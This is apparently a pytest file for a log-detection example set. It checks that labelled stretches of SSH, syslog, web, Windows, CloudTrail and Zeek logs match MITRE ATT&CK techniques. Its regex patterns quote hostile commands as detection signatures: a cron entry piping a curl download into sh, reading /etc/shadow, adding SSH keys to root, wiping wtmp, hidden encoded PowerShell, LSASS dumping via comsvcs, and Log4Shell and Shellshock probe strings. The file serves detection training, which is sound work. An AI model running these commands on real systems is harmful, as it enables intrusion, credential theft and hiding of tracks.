"""The bundled example logs: their labels point at what they say, and the simulated ones can be made again."""

from __future__ import annotations

import csv
import json
import re
import subprocess
import sys
from functools import cache
from pathlib import Path

import pytest

_EXAMPLES = Path(__file__).resolve().parents[1] / "examples"
_SIMULATED = ("windows_security_sysmon.jsonl", "cloudtrail.json", "zeek_conn.log")
_SIZE_BYTES = 700_000
_AUTH, _SYSLOG, _AUDIT = "logs/ssh/auth.log", "logs/linux/syslog", "logs/audit/audit.log"
_ACCESS, _ERROR = "logs/web/access.log", "logs/web/error.log"
_WINDOWS, _CLOUD, _ZEEK = (f"logs/simulated/{name}" for name in _SIMULATED)
_REAL = (_AUTH, _SYSLOG, _AUDIT, _ACCESS, _ERROR)


@cache
def _labels() -> list[dict[str, str]]:
    with (_EXAMPLES / "labels.csv").open(newline="", encoding="utf-8") as text:
        return list(csv.DictReader(text))


@cache
def _records(file: str) -> list[str]:
    text = (_EXAMPLES / file).read_text("utf-8")
    if file == _CLOUD:
        return [json.dumps(record) for record in json.loads(text)["Records"]]
    return text.removesuffix("\n").split("\n")


def _stretches(file: str, technique: str) -> list[list[str]]:
    rows = [row for row in _labels() if row["file"] == file and row["technique_id"] == technique]
    return [_records(file)[int(row["first_line"]) - 1 : int(row["last_line"])] for row in rows]


def _unlabelled(file: str) -> list[str]:
    taken = [range(int(row["first_line"]), int(row["last_line"]) + 1) for row in _labels() if row["file"] == file]
    numbers = {number for stretch in taken for number in stretch}
    return [record for number, record in enumerate(_records(file), 1) if number not in numbers]


def _simulate(out: Path, *options: str) -> None:
    subprocess.run([sys.executable, "-B", _EXAMPLES / "simulate.py", "--out", out, *options], check=True)


def test_labels_stay_inside_their_files() -> None:
    for row in _labels():
        assert 1 <= int(row["first_line"]) <= int(row["last_line"]) <= len(_records(row["file"])), row


def test_labels_do_not_overlap_and_are_in_order() -> None:
    for before, after in zip(_labels(), _labels()[1:], strict=False):
        assert (before["file"], int(before["last_line"])) < (after["file"], int(after["first_line"]))


def test_every_log_has_labels_and_unlabelled_records() -> None:
    files = {str(path.relative_to(_EXAMPLES)) for path in (_EXAMPLES / "logs").rglob("*") if path.is_file()}
    assert files == {*_REAL, _WINDOWS, _CLOUD, _ZEEK}
    assert files == {row["file"] for row in _labels()}
    for file in files:
        assert len(_unlabelled(file)) >= 5, file


def test_labels_are_techniques_of_attack_and_their_tactics(shared_data: Path) -> None:
    with (shared_data / "attack" / "attack_techniques.csv").open(newline="", encoding="utf-8") as text:
        tactics = {row["technique_id"]: row["tactics"].split(";") for row in csv.DictReader(text)}
    for row in _labels():
        assert row["tactic"] in tactics[row["technique_id"]], row


@pytest.mark.parametrize(
    ("file", "technique", "pattern", "at_least"),
    [
        (_AUTH, "T1110.003", r"Failed password for (invalid user )?\w+", 25),
        (_AUTH, "T1110.001", r"Failed password for (root|deploy) from 127\.0\.0\.5[234] ", 30),
        (_AUTH, "T1078.003", r"Accepted password for deploy from 127\.0\.0\.53 ", 1),
        (_AUTH, "T1078.003", r"Accepted password for sysupd from 127\.0\.0\.61 ", 1),
        (_AUTH, "T1003.008", r"sudo: .*COMMAND=/usr/bin/cat /etc/shadow", 1),
        (_AUTH, "T1136.001", r"useradd\[\d+\]: new user: name=sysupd", 1),
        (_AUTH, "T1098.007", r"usermod\[\d+\]: add 'sysupd' to group 'sudo'", 1),
        (_AUTH, "T1098.004", r"COMMAND=/usr/bin/tee -a /root/.ssh/authorized_keys", 1),
        (_AUTH, "T1070.002", r"COMMAND=/usr/bin/truncate -s 0 /var/log/wtmp", 1),
        (_SYSLOG, "T1053.003", r"crontab\[\d+\]: \(root\) REPLACE \(root\)", 1),
        (_SYSLOG, "T1053.003", r"CMD \(curl -fsS http://127\.0\.0\.77:8080/u\.sh \| sh\)", 2),
        (_SYSLOG, "T1071.004", r"query\[A\] \w{4}\.\w{28}\.\w{28}\.t1\.cdn-cache\.example\.net", 40),
        (_SYSLOG, "T1110.001", r"login failed user=admin from=127\.0\.0\.68", 30),
        (_AUDIT, "T1003.008", r'type=EXECVE .*a0="cat" a1="/etc/shadow"', 1),
        (_AUDIT, "T1136.001", r"type=ADD_USER ", 1),
        (_ACCESS, "T1595.003", r'"GET /\S+ HTTP/1\.1" \d{3} .*gobuster', 100),
        (_ACCESS, "T1595.002", r"etc/passwd|/\.env|wp-login|jndi:|\(\) \{ :; \}", 8),
        (_ACCESS, "T1110.001", r'"POST /login HTTP/1\.1" 401 .*Fuzz Faster U Fool', 30),
        (_ACCESS, "T1110.001", r'"POST /login HTTP/1\.1" 302 ', 1),
        (_ACCESS, "T1190", r"UNION.*sqlmap", 5),
        (_ACCESS, "T1190", r'"GET /files\.\./settings\.ini HTTP/1\.1" 200 ', 1),
        (_ACCESS, "T1059.004", r'"GET /tools/ping\?host=\S+ HTTP/1\.1" 200 ', 5),
        (_ERROR, "T1595.003", r"open\(\) .* failed \(2: No such file or directory\), client: 127\.0\.0\.66", 80),
        (_WINDOWS, "T1059.001", r"powershell\.exe -NoP -NonI -W Hidden -Enc ", 1),
        (_WINDOWS, "T1003.001", r"comsvcs\.dll, MiniDump", 1),
        (_WINDOWS, "T1021.002", r"ADMIN\$", 2),
        (_WINDOWS, "T1569.002", r'"EventID": 7045,', 1),
        (_WINDOWS, "T1053.005", r'"EventID": 4698,', 1),
        (_WINDOWS, "T1003.006", r"1131f6ad-9c07-11d1-f79f-00c04fc2dcd2", 1),
        (_WINDOWS, "T1070.001", r'"EventID": 1102,', 1),
        (_CLOUD, "T1078.004", r'"eventName": "ConsoleLogin".*"sourceIPAddress": "203\.0\.113\.', 1),
        (_CLOUD, "T1098.001", r'"eventName": "CreateAccessKey"', 1),
        (_CLOUD, "T1098.003", r'"eventName": "AttachUserPolicy".*AdministratorAccess', 1),
        (_CLOUD, "T1562.008", r'"eventName": "StopLogging"', 1),
        (_ZEEK, "T1071.001", r"\t198\.51\.100\.23\t443\ttcp\tssl\t", 80),
        (_ZEEK, "T1046", r"\t(REJ|S0|RSTO)\t", 60),
        (_ZEEK, "T1041", r"\t48233107\t", 1),
    ],
)
def test_labelled_stretches_hold_what_they_claim(file: str, technique: str, pattern: str, at_least: int) -> None:
    lines = [line for stretch in _stretches(file, technique) for line in stretch]
    assert sum(bool(re.search(pattern, line)) for line in lines) >= at_least


@pytest.mark.parametrize(
    ("file", "pattern"),
    [
        (_AUTH, r"127\.0\.0\.(2\d|3\d|4\d|5[234]|61|66|67|68|70)\b"),
        (_AUTH, r"sysupd|/etc/shadow|truncate"),
        (_SYSLOG, r"127\.0\.0\.(66|67|68|77)\b|cdn-cache"),
        (_AUDIT, r"addr=127\.0\.0\.(2\d|3\d|4\d|5[234])\b"),
        (_ACCESS, r"^127\.0\.0\.(66|67|68) |sqlmap|gobuster|Fuzz Faster"),
        (_ERROR, r"client: 127\.0\.0\.(66|67|68)\b"),
        (_WINDOWS, r"PSEXESVC|comsvcs|-Enc |CertCheck"),
        (_CLOUD, r"203\.0\.113\.199"),
        (_ZEEK, r"198\.51\.100\.23"),
    ],
)
def test_nothing_of_the_attack_is_left_unlabelled(file: str, pattern: str) -> None:
    assert [line[:120] for line in _unlabelled(file) if re.search(pattern, line)] == []


@pytest.mark.parametrize(
    ("file", "pattern"),
    [
        (_AUTH, r"Failed password for dave "),
        (_AUTH, r"useradd\[\d+\]: new user: name=erin"),
        (_AUTH, r"sudo: +deploy .*COMMAND=/usr/sbin/nginx -t"),
        (_SYSLOG, r"login failed user=(emma|noah|olga)"),
        (_ACCESS, r'"POST /login HTTP/1\.1" 401 '),
        (_WINDOWS, r'"EventID": 4625,'),
        (_WINDOWS, r'"EventID": 4698,'),
        (_CLOUD, r'"eventName": "CreateAccessKey"'),
        (_ZEEK, r"\t192\.0\.2\.200\t443\t"),
    ],
)
def test_ordinary_near_misses_are_unlabelled(file: str, pattern: str) -> None:
    assert any(re.search(pattern, line) for line in _unlabelled(file))


@pytest.mark.parametrize("file", [_AUTH, _SYSLOG])
def test_real_syslog_lines_name_the_made_up_host(file: str) -> None:
    assert {re.split(r" +", line)[3 if file == _AUTH else 1] for line in _records(file)} == {"web1"}


@pytest.mark.parametrize("file", _REAL)
def test_real_traffic_stayed_on_loopback(file: str) -> None:
    clients = re.compile(r"(?:from |rhost=|client: |addr=|^)(\d{1,3}(?:\.\d{1,3}){3})\b")
    found = {address for line in _records(file) for address in clients.findall(line)}
    assert found
    assert all(address.startswith("127.") for address in found)


def test_simulated_logs_are_made_again_byte_for_byte(tmp_path: Path) -> None:
    _simulate(tmp_path)
    for name in _SIMULATED:
        made = (tmp_path / "logs" / "simulated" / name).read_bytes()
        assert made == (_EXAMPLES / "logs" / "simulated" / name).read_bytes(), name
    with (tmp_path / "labels.csv").open(newline="", encoding="utf-8") as text:
        assert list(csv.DictReader(text)) == [row for row in _labels() if "/simulated/" in row["file"]]


def test_another_seed_gives_other_logs(tmp_path: Path) -> None:
    _simulate(tmp_path, "--seed", "1")
    for name in _SIMULATED:
        made = (tmp_path / "logs" / "simulated" / name).read_bytes()
        assert made != (_EXAMPLES / "logs" / "simulated" / name).read_bytes(), name


def test_simulating_keeps_the_labels_of_real_logs(tmp_path: Path) -> None:
    row = "logs/ssh/auth.log,3,4,T1110.001,credential-access,kept\n"
    (tmp_path / "labels.csv").write_text("file,first_line,last_line,technique_id,tactic,what\n" + row)
    _simulate(tmp_path)
    assert row in (tmp_path / "labels.csv").read_text()


def test_make_logs_refuses_without_consent() -> None:
    done = subprocess.run(["bash", _EXAMPLES / "make_logs.sh"], capture_output=True, text=True, check=False)
    assert done.returncode == 2
    assert "--yes-change-this-machine" in done.stderr


def test_logs_stay_small() -> None:
    assert sum(path.stat().st_size for path in (_EXAMPLES / "logs").rglob("*") if path.is_file()) < _SIZE_BYTES
